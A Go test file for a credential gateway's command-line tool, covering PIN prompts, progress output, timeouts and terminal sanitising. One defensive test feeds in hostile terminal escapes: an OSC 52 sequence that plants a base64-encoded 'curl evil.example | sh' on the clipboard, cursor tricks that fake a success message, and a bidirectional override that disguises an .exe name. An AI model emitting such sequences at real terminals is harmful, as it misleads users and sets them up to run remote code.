package main

import (
	"bytes"
	"errors"
	"strings"
	"testing"
	"time"
	"unicode"

	"github.com/credgw/credgw/agent"
	"github.com/spf13/cobra"
)

// answers is a terminal that answers the prompts in order.
func answers(t *testing.T, a ...string) func(string) (string, error) {
	return func(prompt string) (string, error) {
		if len(a) == 0 {
			t.Fatalf("asked %q once too often", prompt)
		}
		v := a[0]
		a = a[1:]
		return v, nil
	}
}

func TestKeystorePINAskedTwice(t *testing.T) {
	var w bytes.Buffer
	pin, err := askNewPIN(answers(t, "tulip-4821", "tulip-4821"), &w)
	if err != nil || pin != "tulip-4821" || w.Len() != 0 {
		t.Fatalf("%q %v %q", pin, err, w.String())
	}
	// A confirmation that differs, then a refused PIN, then a match.
	w.Reset()
	pin, err = askNewPIN(answers(t, "tulip-4821", "tulip-4812", "123456", "orchid-9034", "orchid-9034"), &w)
	if err != nil || pin != "orchid-9034" {
		t.Fatalf("%q %v", pin, err)
	}
	out := w.String()
	if !strings.Contains(out, "the two entries differ") || !strings.Contains(out, "most common PINs") {
		t.Fatalf("messages: %q", out)
	}
	for _, secret := range []string{"tulip", "123456", "orchid"} {
		if strings.Contains(out, secret) {
			t.Fatalf("a PIN in the messages: %q", out)
		}
	}
	// Three mismatches: a clear failure, without the PIN.
	_, err = askNewPIN(answers(t, "tulip-4821", "x", "tulip-4821", "y", "tulip-4821", "z"), &w)
	if err == nil || !strings.Contains(err.Error(), "no keystore PIN chosen after 3 tries") || strings.Contains(err.Error(), "tulip") {
		t.Fatalf("%v", err)
	}
	// A failing terminal stops at once.
	broken := errors.New("read /dev/tty: input/output error")
	if _, err := askNewPIN(func(string) (string, error) { return "", broken }, &w); !errors.Is(err, broken) {
		t.Fatalf("%v", err)
	}
}

// TestProgressPrinterSaysMessages: what the agent says on its own (a
// wait, a retry, an earlier install's leftovers) reaches the person.
func TestProgressPrinterSaysMessages(t *testing.T) {
	var b strings.Builder
	p := progressPrinter(&b)
	p(agent.Event{Message: "the gateway is busy; retrying in 2s"})
	p(agent.Event{Message: "issuing", Current: 1, Total: 3})
	p(agent.Event{Message: "connection lost at 10 of 20 bytes; resuming", Resumed: true})
	want := "the gateway is busy; retrying in 2s\nissuing (1/3)\nconnection lost at 10 of 20 bytes; resuming\n"
	if b.String() != want {
		t.Errorf("printed %q, want %q", b.String(), want)
	}
}

// TestGatewayTextCannotDriveTheTerminal: what a gateway writes (progress
// messages, status messages in errors) reaches the person's terminal
// without control characters: a hostile gateway cannot move the cursor to
// paint "Installed and confirmed" over a failure, set the clipboard (OSC
// 52) or reverse text with bidirectional overrides.
func TestGatewayTextCannotDriveTheTerminal(t *testing.T) {
	hostile := []string{
		"\x1b]52;c;Y3VybCBldmlsLmV4YW1wbGUgfCBzaA==\x07issuing",
		"\x1b[2K\x1b[1AInstalled and confirmed",
		"\x9b2Jcleared",
		"file \u202egpj.exe",
		"line one\rline two",
	}
	var b strings.Builder
	p := progressPrinter(&b)
	for _, m := range hostile {
		p(agent.Event{Message: m})
		p(agent.Event{Message: m, Current: 1, Total: 3})
		p(agent.Event{Message: m, Resumed: true})
	}
	var e strings.Builder
	printError(&e, errors.New(hostile[0]+"; "+hostile[1]))
	for what, out := range map[string]string{"progress": b.String(), "error": e.String()} {
		for _, r := range strings.ReplaceAll(out, "\n", "") {
			if r != '\t' && r != '\u200e' && r != '\u200f' && r != '\u061c' && (unicode.IsControl(r) || unicode.Is(unicode.Bidi_Control, r)) {
				t.Fatalf("%s output holds %U: %q", what, r, out)
			}
		}
	}
	if !strings.Contains(b.String(), "issuing") || !strings.Contains(e.String(), "credgw: ") {
		t.Fatalf("the readable text is lost: %q / %q", b.String(), e.String())
	}
	// What is text stays: the lines of a joined error, tabs, accents,
	// other scripts, and the directional marks of right-to-left names.
	var j strings.Builder
	printError(&j, errors.Join(errors.New("first:\tJosé Ñúñez, 山田"), errors.New("second: \u200fשלום\u200e")))
	if want := "credgw: first:\tJosé Ñúñez, 山田\nsecond: \u200fשלום\u200e\n"; j.String() != want {
		t.Fatalf("printed %q, want %q", j.String(), want)
	}
}

// TestTimeoutOutlastsTheWait: redeem's and renew's overall limit is longer
// than the agent's own waits for a busy gateway (one before the download,
// one before the confirmation) plus a download; before,
// it was 5 minutes against a 15-minute wait, and a download finishing
// near it had its confirmation cut (answer unknown, the credentials
// revoked unconfirmed an hour later).
func TestTimeoutOutlastsTheWait(t *testing.T) {
	for name, cmd := range map[string]*cobra.Command{"redeem": newRedeemCmd(), "renew": newRenewCmd()} {
		d, err := time.ParseDuration(cmd.Flags().Lookup("timeout").DefValue)
		if err != nil || d < 2*agent.DefaultMaxWait+10*time.Minute {
			t.Errorf("%s --timeout defaults to %v (%v), want at least the agent's two waits (2 × %v) and 10 minutes", name, d, err, agent.DefaultMaxWait)
		}
	}
}
